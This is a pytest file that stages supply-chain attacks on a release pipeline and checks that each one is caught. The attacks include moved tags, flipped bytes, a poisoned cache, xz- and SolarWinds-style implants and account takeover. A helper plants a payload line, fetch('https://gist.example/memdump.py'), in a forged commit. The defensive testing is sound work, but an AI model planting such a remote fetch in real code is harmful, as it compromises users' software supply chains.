"""Attacks on the whole demonstration release, each named after its incident: real machines, git, index and Sigstore.

Each stops the run or leaves it to go on as if nothing had been, and says what was seen, where, and by whom. What cannot
be staged here is staged at a narrower place, which a comment names.
"""

from __future__ import annotations

import hashlib
import json
import random
import signal
import subprocess
import sys
import threading
import time
import xml.etree.ElementTree as ET
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest

from besieged import Besieged, at_once, besieged, flip, flipped, on_disk
from customhouse.release.building.pythons import own_python
from customhouse.release.children import Children
from customhouse.release.events import (
    Approved,
    Asked,
    KeyGranted,
    Published,
    SignedThing,
    StepDone,
    StepFailed,
    StepStarted,
    TagMoved,
    TagSeen,
)
from customhouse.release.machine_key import open_key
from customhouse.release.question import idempotency_key
from customhouse.release.standing import inputs_of
from customhouse.release.work.http_journal import HttpJournal
from customhouse.release.work.room_door import Place, RoomDoor
from customhouse.terms.errors import Refused
from demonstration import BUILDERS, Machine, builders, settings_for_builders
from joining import FUNCTION, MACRO
from packages import wheel
from sealed_project import git
from world import Server

pytestmark = [pytest.mark.prove, pytest.mark.slow]
SEEDS = 12
ATTACKS_IN_A_WORLD = 8
ATOM = "{http://www.w3.org/2005/Atom}"


class Worlds:
    """One after another: most attacks leave a run that stands still, and a project may have twenty of them."""

    def __init__(self, folders: pytest.TempPathFactory) -> None:
        self.folders = folders
        self.stack = ExitStack()
        self.world: Besieged | None = None
        self.attacks = 0

    def for_one_attack(self) -> Besieged:
        """The world that there is, or a new one."""
        if self.world is None or self.attacks == ATTACKS_IN_A_WORLD:
            self.stack.close()
            folder = self.folders.mktemp("besieged")
            builds = self.stack.enter_context(builders())
            server = Server(folder / "data", environment=settings_for_builders(builds), named=True)
            self.stack.callback(server.stop)
            server.start()
            self.world = self.stack.enter_context(besieged(server, folder / "world", builds))
            self.attacks = 0
        self.attacks += 1
        return self.world


@pytest.fixture(scope="module")
def worlds(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Worlds]:
    made = Worlds(tmp_path_factory)
    with made.stack:
        yield made


@pytest.fixture
def world(worlds: Worlds) -> Besieged:
    return worlds.for_one_attack()


@pytest.fixture
def siege(world: Besieged, request: pytest.FixtureRequest) -> Iterator[Besieged]:
    """A fresh run, whose machines end with the test."""
    name = request.node.name.removeprefix("test_").translate(str.maketrans(" []", "---"))[:60]
    made = world.fresh(name)
    yield made
    made.end()


def elsewhere(siege: Besieged, repository: Path) -> Path:
    """A clone of somebody who may push."""
    folder = siege.folder / "thief"
    git(siege.folder, "clone", "--quiet", str(repository), str(folder))
    return folder


def move_tag(siege: Besieged) -> tuple[Path, str, str]:
    """By force, to a commit with a payload; returns the clone, where the tag was, and where it is."""
    thief, tag = elsewhere(siege, siege.fork), f"v{siege.version}"
    was = git(thief, "rev-parse", tag)
    (thief / "index.js").write_text("fetch('https://gist.example/memdump.py')")
    git(thief, "add", "index.js")
    git(thief, "commit", "--quiet", "--message", "chore: update")
    git(thief, "tag", "--force", tag)
    git(thief, "push", "--quiet", "--force", "origin", tag)
    return thief, was, git(thief, "rev-parse", tag)


# The tag.


def test_tj_actions_a_tag_is_moved(siege: Besieged) -> None:
    """March 2025: all tags of tj-actions/changed-files were moved to one commit with a payload."""
    siege.begin(rm="")
    siege.until("pushed", lambda found: found["steps"]["push-fork"]["status"] == "done")
    _thief, was, now = move_tag(siege)
    stop = siege.stopped("tag-moved", by="rm", saw=now, where="fork")
    assert was in stop["expected"]
    siege.nothing_is_public()
    # Whoever builds now takes nothing of it: the run stands still.
    siege.start("ci-a")
    assert siege.status()["steps"]["build"]["status"] == "waiting"


def test_tj_actions_a_tag_is_moved_and_put_back_between_two_looks(siege: Besieged) -> None:
    siege.begin(rm="")
    siege.until("pushed", lambda found: found["steps"]["push-fork"]["status"] == "done")
    thief, was, now = move_tag(siege)
    git(thief, "fetch", "--quiet", str(siege.folder / "home-rm/work/work/source"), f"+{was}:refs/tags/v{siege.version}")
    git(thief, "push", "--quiet", "--force", "origin", f"v{siege.version}")
    assert siege.tag(siege.fork) == was
    siege.stopped("tag-moved", by="rm", saw=now, where="fork")
    (seen,) = [line.event for line in siege.lines if isinstance(line.event, TagMoved)]
    assert seen.seen_by.startswith("reflog")
    siege.nothing_is_public()


def test_tj_actions_a_tag_is_moved_in_the_last_moment_before_it_is_published(siege: Besieged) -> None:
    siege.begin(rm="before do: publish", ci_a="", ci_b="")
    siege.until_held("rm", "before do: publish")
    _thief, _was, now = move_tag(siege)
    siege.let_go("rm")
    siege.until("stopped", lambda found: found["status"] == "stopped")
    # The watcher and the check before the step look at the same time; either may be the first to say it.
    stop = siege.status()["stop"]
    assert (stop["code"], stop["by"]) in [("tag-moved", "rm"), ("check:tag-unmoved", "rm")]
    assert now in stop["saw"]
    siege.nothing_is_public()


# A byte at each hand-over.


def local(siege: Besieged, actor: str, digest: str) -> Path:
    """Where this actor's machine keeps the file."""
    return on_disk(siege.folder / f"home-{actor}/work/objects", digest)


def test_a_byte_is_flipped_between_built_and_stored(siege: Besieged) -> None:
    """On the builder's own disk, after it has told what it built. (On the wire: `test_release_room.py`, a file that is
    not what its name says is not taken.)"""
    siege.begin(rm="", ci_a="before do: sbom", ci_b="")
    siege.until_held("ci-a", "before do: sbom")
    digest = siege.made("dists", ".whl").digest
    flip(local(siege, "ci-a", digest))
    siege.let_go("ci-a")
    siege.stopped("check:handover", by="ci-a", saw="SHA-256", where=".whl")
    siege.nothing_is_public()


def test_a_byte_is_flipped_between_stored_and_staged(siege: Besieged) -> None:
    """On the disk of the room, where the release manager's machine takes it from."""
    siege.begin(rm="before do: stage", ci_a="", ci_b="")
    siege.until_held("rm", "before do: stage")
    digest = siege.made("dists", ".whl").digest
    with flipped(on_disk(siege.server.data, digest)):
        siege.let_go("rm")
        siege.stopped("check:handover", by="rm", saw="SHA-256", where=".whl")
    siege.nothing_is_public()


def test_a_byte_is_flipped_between_staged_and_tested(siege: Besieged) -> None:
    """On the index's disk: its page says the old digest, and what comes has another."""
    siege.begin(rm="", ci_a="before do: test", ci_b="")
    siege.until_held("ci-a", "before do: test")
    digest = siege.made("dists", ".whl").digest
    with flipped(on_disk(siege.server.data, digest)):
        siege.let_go("ci-a")
        siege.stopped("check:tested-as-staged", by="ci-a", saw=".whl", where="/stage/")
    siege.nothing_is_public()


def test_a_byte_is_flipped_between_tested_and_signed(siege: Besieged) -> None:
    """On the disk of the machine that signs."""
    siege.begin(rm="before do: sign", ci_a="", ci_b="")
    siege.until_held("rm", "before do: sign")
    flip(local(siege, "rm", siege.made("dists", ".whl").digest))
    siege.let_go("rm")
    siege.stopped("check:handover", by="rm", saw="SHA-256", where=".whl")
    assert not any(isinstance(line.event, SignedThing) for line in siege.lines)
    siege.nothing_is_public()


def test_a_byte_of_a_signature_is_flipped_between_signed_and_published(siege: Besieged) -> None:
    siege.begin(rm="before do: publish", ci_a="", ci_b="")
    siege.until_held("rm", "before do: publish")
    flip(local(siege, "rm", siege.made("sigs", ".whl.asc").digest))
    siege.let_go("rm")
    siege.stopped("check:handover", by="rm", saw="SHA-256", where=".whl.asc")
    siege.nothing_is_public()


def test_a_byte_of_a_staged_file_is_flipped_between_signed_and_published(siege: Besieged) -> None:
    """The index has another file than it says, after everything was tested and signed."""
    siege.begin(rm="before do: publish", ci_a="", ci_b="")
    siege.until_held("rm", "before do: publish")
    with flipped(on_disk(siege.server.data, siege.made("dists", ".whl").digest)):
        siege.let_go("rm")
        siege.stopped("tampered:digest", by="rm", saw=".whl", where="/stage/")
    siege.nothing_is_public()


def test_a_byte_is_flipped_between_published_and_fetched_back(siege: Besieged) -> None:
    """There is no way back from publication; but the tag is pushed last, and stays where it is."""
    siege.moved = {"index": {"cache_seconds": "5"}}
    siege.begin(rm="", ci_a="before do: fetch-back", ci_b="")
    siege.until_held("ci-a", "before do: fetch-back")
    with flipped(on_disk(siege.server.data, siege.made("dists", ".whl").digest)):
        siege.let_go("ci-a")
        siege.until("stopped", lambda found: found["status"] == "stopped")
        stop = siege.status()["stop"]
        assert (stop["by"], stop["step"]) == ("ci-a", "fetch-back"), stop
        assert ".whl" in f"{stop['saw']} {stop['place']}", stop
        assert "SHA-256" in stop["saw"], stop
    assert siege.tag(siege.upstream) == ""
    assert not siege.feed.exists()


def test_an_extra_file_in_the_stage(siege: Besieged, tmp_path: Path) -> None:
    """A co-maintainer's stolen token sends another wheel into the session: installers would prefer it."""
    siege.begin(rm="", ci_a="before do: test", ci_b="")
    siege.until_held("ci-a", "before do: test")
    extra = wheel(siege.name, siege.version, headers={"Requires-Python": ">=3.10"})
    (tmp_path / extra.filename).write_bytes(extra.body)
    command = [
        sys.executable, "-m", "customhouse", "publish", "--index", siege.host.url, "--stage", "--with-others",
        "--token", siege.people["reviewer"].token, str(tmp_path / extra.filename),
    ]  # fmt: skip
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr
    siege.let_go("ci-a")
    siege.stopped("check:tested-as-staged", by="ci-a", saw=extra.filename, where="/stage/")
    siege.nothing_is_public()


# Builders.


def test_ultralytics_a_poisoned_build_cache(world: Besieged) -> None:
    """December 2024: a pull request poisoned a cache that the release's build used. Here a builder keeps one at all."""
    siege = world.fresh("ultralytics", told={
        'ci = { title = "Builder A", kind = "ci", network = "none", ephemeral = true, cache = false }':
        'ci = { title = "Builder A", kind = "ci", network = "none", ephemeral = true, cache = true }',
    })  # fmt: skip
    try:
        lock = (siege.project.folder / siege.project.requires).read_bytes()
        shelf = siege.folder / "home-ci-a/work/work/wheels"
        cached = shelf / f"{hashlib.sha256(lock).hexdigest()}-{own_python(Children()).tag}"
        cached.mkdir(parents=True)
        (good,) = siege.project.wheelhouse.iterdir()
        (cached / good.name).write_bytes(good.read_bytes() + b"poison")
        siege.begin()
        siege.stopped("tampered:poisoned-cache", by="ci-a", saw=good.name, where=str(cached))
        siege.nothing_is_public()
    finally:
        siege.end()


def test_xz_an_sdist_that_differs_from_the_tag(siege: Besieged) -> None:
    """March 2024: a macro in the tarball of xz that was in no commit. Here both builders are in it, and agree."""
    siege.open()
    siege.start("rm")
    for actor in ("ci-a", "ci-b"):
        siege.start(actor, IMPLANT="macro")
    siege.confirm()
    siege.stopped("check:tree-equals-source", by="ci-a", saw=f"{MACRO} is not in the commit", where=".tar.gz")
    siege.nothing_is_public()


def test_solarwinds_a_builder_that_adds_a_function(siege: Besieged) -> None:
    """2020: the build machine exchanged a source file while it compiled. The other builder sees it, and names it."""
    siege.open()
    siege.start("rm")
    siege.start("ci-a", IMPLANT="function")
    siege.start("ci-b")
    siege.confirm()
    siege.stopped("check:rebuilds-agree", by="ci-b", saw=f"{FUNCTION}()", where="build")
    siege.nothing_is_public()


# People.


def answer(siege: Besieged, actor: str, step: str) -> httpx.Response:
    return siege.people[actor].decide(siege.run, step)


def test_one_person_approves_twice_by_two_accounts(siege: Besieged) -> None:
    """The account ravi has come into the hands of rosa: his mail goes to her, and so does his key."""
    siege.begin(rm="", ci_a="", ci_b="")
    siege.until("asked", lambda found: "stop" in found["asks"])
    with siege.server.opened() as app, app.database.write() as sql:
        taken = "UPDATE account SET email = 'Rosa+ravi@example.org' WHERE name = 'ravi'"
        assert sql.exec_driver_sql(taken).rowcount == 1
    try:
        first = answer(siege, "rm", "stop")
        assert first.status_code == httpx.codes.SEE_OTHER, first.text
        second = answer(siege, "reviewer", "stop")
        assert second.status_code != httpx.codes.SEE_OTHER
        assert "approved" in second.text
        approvals = [line.event for line in siege.lines if isinstance(line.event, Approved)]
        assert [one.actor for one in approvals] == ["rm"]
        # Nor can the quorum be filled without the third person.
        assert answer(siege, "tester", "stop").status_code == httpx.codes.SEE_OTHER
        assert siege.status()["steps"]["stop"]["status"] == "asked"
        siege.nothing_is_public()
    finally:
        with siege.server.opened() as app, app.database.write() as sql:
            sql.exec_driver_sql("UPDATE account SET email = 'ravi@example.org' WHERE name = 'ravi'")


@contextmanager
def speaks_as_rm(siege: Besieged) -> Iterator[HttpJournal]:
    """Whoever has broken into the release manager's machine has its key and its token."""
    home = siege.folder / "home-rm/work"
    door = RoomDoor(Place.parse(siege.page, allow_http=True))
    door.token = json.loads((home / "joined.json").read_text())["token"]
    try:
        yield HttpJournal(door, "rm", open_key(home / "machine.key"))
    finally:
        door.close()


def test_signing_before_testing(siege: Besieged) -> None:
    """With the machine's own key and token: the room lets nobody begin, and no key is released.

    That the signing step itself refuses, whatever a room says: `test_release_ship.py`, signing before testing.
    """
    siege.begin(rm="", ci_a="before do: test", ci_b="")
    siege.until_held("ci-a", "before do: test")
    state = siege.state
    key = idempotency_key(state.run, "sign", 1)
    inputs = inputs_of(state, state.pipeline.step("sign"))
    early = StepStarted("sign", 1, "rm@desk", datetime.now(UTC) + timedelta(minutes=5), key, inputs)
    thing = siege.made("dists", ".whl")
    sign = SignedThing("sign", 1, thing, thing, "gpg", siege.gpg.fingerprint)
    granted = KeyGranted("sign", 1, f"gpg:{siege.gpg.fingerprint}", (thing,), ())
    with speaks_as_rm(siege) as journal:
        for event, code in ((early, "too-early"), (sign, "not-running"), (granted, "not-for-machines")):
            with pytest.raises(Refused) as refused:
                journal.say([event])
            assert refused.value.code == code, refused.value
    siege.nothing_is_public()
    # Nothing of it is in the journal, and the release goes on to its end.
    siege.let_go("ci-a")
    assert siege.watch()["status"] == "released", siege.logs()


def test_rt_158_signed_with_the_wrong_issuer(siege: Besieged) -> None:
    """CPython 3.10.14 was signed with an identity of another provider, and nobody saw it for months."""
    siege.begin(rm="before do: sign", ci_a="", ci_b="")
    siege.until_held("rm", "before do: sign")
    other = siege.builds.token({"sub": "builder-a"}, aud="sigstore")
    (siege.folder / "home-rm/sigstore-token").write_text(other)
    siege.let_go("rm")
    # The step has failed, says the machine; doing it again would mend nothing, says the engine.
    siege.stopped("wrong-issuer", by="engine", saw=siege.builds.url, where="sign")
    (failed,) = [line for line in siege.lines if isinstance(line.event, StepFailed)]
    assert failed.by == "rm"
    assert not any(isinstance(line.event, SignedThing) for line in siege.lines)
    siege.nothing_is_public()


def test_a_pipeline_definition_is_rolled_back(world: Besieged) -> None:
    """The definition of before, which asked fewer people; and the same version with other words."""
    first, second = world.fresh("newer"), world.fresh("older")
    second.open()
    with pytest.raises(RuntimeError, match=f"This pipeline is version {first.number}, and sealed was released by"):
        first.open()
    changed = second.pipeline().replace("quorum = 3", "quorum = 1")
    third = world.fresh("changed")
    with pytest.raises(RuntimeError, match="Raise `version`"):
        third.open(changed)
    assert not first.run
    assert not third.run
    second.nothing_is_public()


def test_two_operators_press_go_together(world: Besieged, siege: Besieged) -> None:
    """Two open the same release: there is one run. Two machines of one actor join it: everything is done once."""
    text, document = siege.pipeline(), {"params": siege.params(), "places": siege.places()}

    def opens(actor: str) -> httpx.Response:
        return httpx.post(
            f"{siege.host.url}/api/release/runs", json={"pipeline": text, **document}, timeout=60,
            headers={"authorization": f"Bearer {siege.people[actor].token}"},
        )  # fmt: skip

    answers = at_once(lambda: opens("rm"), lambda: opens("reviewer"))
    assert sorted(one.status_code for one in answers) == [201, 409], [one.text for one in answers]
    (opened,) = [one.json() for one in answers if one.status_code == httpx.codes.CREATED]
    (refused,) = [one.text for one in answers if one.status_code == httpx.codes.CONFLICT]
    assert opened["run"] in refused
    siege.run = opened["run"]
    desk = world.fresh("second-desk")
    desk.run = siege.run
    try:
        # Not by threads: a machine of tests dies with the thread that has started it.
        siege.start("rm")
        desk.start("rm")
        siege.begin(ci_a="", ci_b="")
        assert siege.watch()["status"] == "released", siege.logs() + desk.logs()
        released_once(siege)
    finally:
        desk.end()


def test_an_expired_approval(world: Besieged) -> None:
    """Two say yes, the third comes too late: everybody is asked anew, and what was said before does not count."""
    siege = world.fresh("expired", told={
        'ask = "Green light for {project} {version}?", factor = "webauthn" }':
        'ask = "Green light for {project} {version}?", factor = "webauthn", expires = "1m" }',
    })  # fmt: skip
    try:
        siege.begin()
        siege.until("asked", lambda found: "stop" in found["asks"])
        first = siege.status()["asks"]["stop"]["question"]
        for actor in ("rm", "reviewer"):
            assert answer(siege, actor, "stop").status_code == httpx.codes.SEE_OTHER

        def anew(found: dict[str, Any]) -> bool:
            return "stop" in found["asks"] and found["asks"]["stop"]["question"] != first

        wait_without_answers(siege, anew)
        assert answer(siege, "tester", "stop").status_code == httpx.codes.SEE_OTHER
        found = siege.state.steps["stop"]
        assert [one.actor for _seq, _at, one in found.approvals] == ["tester"]
        assert found.status == "asked"
        asked = [line.event.expires_at for line in siege.lines if isinstance(line.event, Asked)]
        assert len(asked) == len(set(asked)) >= 2
        siege.nothing_is_public()
    finally:
        siege.end()


def wait_without_answers(siege: Besieged, holds: Callable[[dict[str, Any]], bool]) -> None:
    ends = time.monotonic() + 120
    while not holds(siege.status()):
        assert time.monotonic() < ends
        threading.Event().wait(0.2)


# Kill -9.


def released_once(siege: Besieged) -> None:
    """It has come to its end as a run that nobody disturbed does, and nothing was done twice."""
    lines, state = siege.lines, siege.state
    assert state.status == "released"
    events = [line.event for line in lines]
    assert Counter(type(one) for one in events)[Published] == 1
    ends = Counter(one.step for one in events if isinstance(one, StepDone))
    assert ends == {step.id: 1 for step in state.pipeline.steps}
    assert {one.attempt for one in state.steps.values()} == {1}
    signed = Counter((one.thing.name, one.how) for one in events if isinstance(one, SignedThing))
    assert set(signed.values()) == {1}
    assert len(signed) == 2 * (len(state.artifacts["dists"]) + len(state.artifacts["sbom"]))
    assert siege.on_the_index() == {one.name: one.digest for one in state.artifacts["dists"]}
    assert siege.tag(siege.upstream) == siege.tag(siege.fork) == state.artifacts["tag"][0].digest
    assert git(siege.upstream, "rev-parse", "main") == state.artifacts["commit"][0].digest
    entries = ET.parse(siege.feed).getroot().findall(f"{ATOM}entry")  # noqa: S314 - our own
    assert len(entries) == 1


@pytest.mark.parametrize("seed", range(SEEDS))
def test_kill_9_of_each_machine_and_of_the_server(siege: Besieged, seed: int) -> None:
    """Each once, at a place that nobody chose; started again, all come to the same end."""
    chance = random.Random(seed)  # noqa: S311 - the same each time
    die = {"rm": chance.randint(3, 60), "ci-a": chance.randint(3, 24), "ci-b": chance.randint(1, 3)}
    server_dies, killed = chance.randint(5, 60), set[str]()
    siege.open()
    for actor, places in die.items():
        siege.start(actor, DIE_AT=str(places))
    siege.confirm()

    def about(_found: dict[str, Any]) -> None:
        for actor, machine in siege.machines.items():
            if machine.process is not None and machine.process.poll() == -signal.SIGKILL:
                killed.add(actor)
                siege.start(actor)
        if "server" not in killed and len(siege.lines) > server_dies:
            killed.add("server")
            siege.server.kill()
            siege.server.start()

    siege.about = about
    found = siege.watch()
    where = {actor: (siege.folder / f"home-{actor}/died") for actor in die}
    told = {actor: path.read_text() if path.exists() else "not killed" for actor, path in where.items()}
    assert found["status"] == "released", f"{told} {found}\n{siege.logs()}"
    assert killed == {*die, "server"}, told
    released_once(siege)


LOCK = {"CUSTOMHOUSE_RELEASE_RELEASE_LOCK": "what all machines of the release manager know"}
"""By it each of them passes the branch's lock (`git.forges.keys`)."""


def vanished(siege: Besieged, how: str, **more: str) -> Machine:
    """The release manager's machine goes on until it is gone, inside publishing."""
    siege.open()
    machine = siege.start("rm", VANISH=how, **LOCK, **more)
    for actor in BUILDERS:
        siege.start(actor)
    siege.confirm()
    mark = machine.home / ("held" if how == "asleep" else "died")
    siege.until(f"it vanishes {how}", lambda _found: mark.exists() and mark.read_text() == how)
    assert machine.process is not None
    if how != "asleep":
        assert machine.process.wait(20) == -signal.SIGKILL
    return machine


def another(siege: Besieged) -> Machine:
    """A second machine of the release manager: another home, another key, and nothing of the first one."""
    siege.machines["rm-before"] = siege.machines["rm"]
    siege.machines["rm"] = Machine("rm", siege.folder / "home-rm-2")
    return siege.start("rm", **LOCK)


def has_released(siege: Besieged, *, recovered: bool) -> None:
    found = siege.watch()
    assert found["status"] == "released", f"{found}\n{siege.logs()}"
    released_once(siege)
    assert siege.state.steps["publish"].recovered == recovered
    kinds = [line.event for line in siege.lines]
    public = next(place for place, one in enumerate(kinds) if isinstance(one, Published))
    tagged = [
        place for place, one in enumerate(kinds) if isinstance(one, TagSeen) and one.remote == "upstream" and one.oid
        if one.ref.startswith("refs/tags/")
    ]  # fmt: skip
    assert tagged
    assert min(tagged) > public, "the tag comes last"


@pytest.mark.parametrize("how", ["before", "after"])
def test_kill_9_inside_publishing_and_the_same_machine_comes_back(siege: Besieged, how: str) -> None:
    vanished(siege, how)
    assert bool(siege.on_the_index()) == (how == "after")
    siege.start("rm", **LOCK)
    has_released(siege, recovered=how == "after")


@pytest.mark.parametrize("how", ["before", "after"])
def test_kill_9_inside_publishing_and_another_machine_of_the_same_person_takes_over(siege: Besieged, how: str) -> None:
    vanished(siege, how, LEASE_SECONDS="8")
    another(siege)
    has_released(siege, recovered=how == "after")
    (first, second) = {line.said.key for line in siege.lines if line.said and line.by == "rm"}
    assert first != second


def test_a_machine_that_slept_inside_publishing_wakes_up_and_both_act(siege: Besieged) -> None:
    """It had just seen that the step was its own: nothing can keep it from asking. The same bytes are published once."""
    asleep = vanished(siege, "asleep", LEASE_SECONDS="8")
    assert asleep.process is not None
    asleep.process.send_signal(signal.SIGSTOP)
    another(siege)
    siege.until("published", lambda found: found["steps"]["publish"]["status"] == "done")
    siege.let_go("rm")
    asleep.process.send_signal(signal.SIGCONT)
    has_released(siege, recovered=False)
    assert asleep.process.wait(60) == 0, asleep.log
    assert "not written down" in asleep.log
